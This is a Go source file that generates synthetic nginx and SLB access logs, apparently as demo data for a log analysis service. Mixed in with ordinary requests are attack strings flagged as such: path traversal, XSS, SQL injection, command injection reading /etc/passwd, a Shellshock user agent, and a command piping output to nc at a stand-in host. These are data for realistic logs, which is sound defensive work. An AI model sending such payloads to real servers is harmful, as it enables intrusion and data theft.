package sample

import (
	"fmt"
	"strconv"
	"time"
)

type request struct {
	method, uri string
	status      []int
	attack      bool
}

var requests = []request{
	{"GET", "/", []int{200}, false},
	{"GET", "/index.html", []int{200, 304}, false},
	{"GET", "/static/js/app.9f8e7d1c.js", []int{200, 304}, false},
	{"GET", "/api/v1/orders?page=2&size=20", []int{200}, false},
	{"GET", "/api/v1/search?q=a=b|c", []int{200}, false},
	{"GET", "/api/v1/items?filter=x||y&sort=-price", []int{200}, false},
	{"GET", "/api/v1/list?ids[]=1&ids[]=2", []int{200, 400}, false},
	{"GET", "/search?q=%E4%B8%AD%E6%96%87&lang=zh-CN", []int{200}, false},
	{"POST", "/api/v1/login", []int{200, 401, 401}, false},
	{"POST", "/api/v1/orders", []int{201, 422}, false},
	{"PUT", "/api/v1/user/profile", []int{200}, false},
	{"DELETE", "/api/v1/orders/ORD-20251124-0042", []int{204, 403}, false},
	{"GET", "/health", []int{200}, false},
	{"OPTIONS", "/api/v1/orders", []int{204}, false},
	{"GET", "/.env", []int{404}, true},
	{"GET", "/wp-login.php", []int{404}, true},
	{"GET", `/admin/config.php?file=..\..\windows\win.ini`, []int{403}, true},
	{"GET", `/search?q="><script>alert(1)</script>`, []int{400, 403}, true},
	{"GET", "/login?user=admin'--&pass=x", []int{403}, true},
	{"GET", "/cgi-bin/;cat /etc/passwd", []int{400}, true},
	{"GET", "/api/v1/exec?cmd=ls%20-la|nc 198.51.100.9 4444", []int{403}, true},
	{"GET", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array`, []int{404}, true},
	{"HEAD", "/backup.tar.gz", []int{404}, true},
}

var browserAgents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) MicroMessenger/8.0.44",
	"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0",
	"okhttp/4.12.0",
	"curl/8.5.0",
}

var attackAgents = []string{
	"sqlmap/1.7.2#stable (https://sqlmap.org)",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	`() { :; }; /bin/bash -c "cat /etc/passwd"`,
	`Mozilla/5.0 (compatible; "Scanner" v1.0; +http://198.51.100.9/bot)`,
	"python-requests/2.31.0",
}

var clientIPs = []string{"203.0.113.10", "203.0.113.77", "198.51.100.23", "198.51.100.9", "192.0.2.51", "2001:db8:85a3::8a2e:370:7334"}

var referers = []string{"-", "-", "https://shop.example.com/", "https://www.baidu.com/s?wd=%E5%95%86%E5%9F%8E", ""}

var vhosts = []string{"shop.example.com", "api.example.com"}

// access picks a request and its client for nginx and SLB logs.
func (g *generator) access() (req request, status int, agent, client string) {
	req = requests[g.r.intn(len(requests))]
	status = req.status[g.r.intn(len(req.status))]
	if req.attack {
		agent = g.r.pick(attackAgents)
		client = g.r.pick(clientIPs[2:])
	} else {
		agent = g.r.pick(browserAgents)
		client = g.r.pick(clientIPs)
	}
	return req, status, agent, client
}

func (g *generator) seconds(max int) string {
	return fmt.Sprintf("%d.%03d", g.r.intn(max), g.r.intn(1000))
}

// nginx fills l with an nginx access log parsed into fields by Logtail.
func (g *generator) nginx(l Log) Log {
	req, status, agent, client := g.access()
	l.Contents = []Pair{
		{"remote_addr", client},
		{"time_local", time.Unix(int64(l.Time), 0).In(cst).Format("02/Jan/2006:15:04:05 -0700")},
		{"request_method", req.method},
		{"request_uri", req.uri},
		{"status", strconv.Itoa(status)},
		{"body_bytes_sent", strconv.Itoa(g.r.intn(40000))},
		{"request_time", g.seconds(2)},
		{"http_referer", g.r.pick(referers)},
		{"http_user_agent", agent},
	}
	if g.r.intn(4) == 0 {
		l.Contents = append(l.Contents, Pair{"http_x_forwarded_for", client + ", 10.0.0.3"})
	}
	return l
}

// slb fills l with an SLB layer-7 access log.
func (g *generator) slb(l Log) Log {
	req, status, agent, client := g.access()
	l.Contents = []Pair{
		{"client_ip", client},
		{"request_method", req.method},
		{"request_uri", req.uri},
		{"status", strconv.Itoa(status)},
		{"request_time", g.seconds(2)},
		{"http_user_agent", agent},
		{"http_host", g.r.pick(vhosts)},
		{"slbid", "lb-bp1o94dp5i6earr9g6d1l"},
		{"upstream_addr", fmt.Sprintf("192.168.10.%d:80", 11+g.r.intn(3))},
	}
	return l
}

// cst is China Standard Time, the zone of the sample's hosts.
var cst = time.FixedZone("CST", 8*3600)
